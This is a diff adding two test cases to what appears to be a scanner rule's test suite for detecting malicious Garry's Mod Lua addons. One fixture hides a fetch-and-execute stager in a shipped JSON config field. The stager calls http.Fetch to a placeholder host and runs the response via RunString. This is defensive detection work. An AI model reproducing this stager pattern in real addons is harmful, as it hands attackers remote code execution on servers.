@@ -424,4 +424,25 @@ describe('runstring', () => {
     });
     expect(findings).toEqual([]);
   });
+  it('a stager kept in a field of a JSON file the addon ships, run from its settings', () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_x.lua': [
+        'local cfg = util.JSONToTable(file.Read("data_static/cfg.json", "GAME") or "{}")',
+        'if cfg and cfg.init then RunString(cfg.init) end',
+      ].join('\n'),
+      'data_static/cfg.json':
+        '{"name":"x","init":"http.Fetch(\'https://j.invalid/i\', function(b) RunString(b) end)"}',
+    });
+    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
+  });
+  it('settings read from a JSON file the addon ships, shown in chat (benign)', () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_x.lua': [
+        'local cfg = util.JSONToTable(file.Read("data_static/cfg.json", "GAME") or "{}")',
+        'hook.Add("PlayerInitialSpawn", "motd", function(ply) ply:ChatPrint(cfg.motd) end)',
+      ].join('\n'),
+      'data_static/cfg.json': '{"motd":"Welcome! Type !rules to read the rules."}',
+    });
+    expect(findings).toEqual([]);
+  });
 });
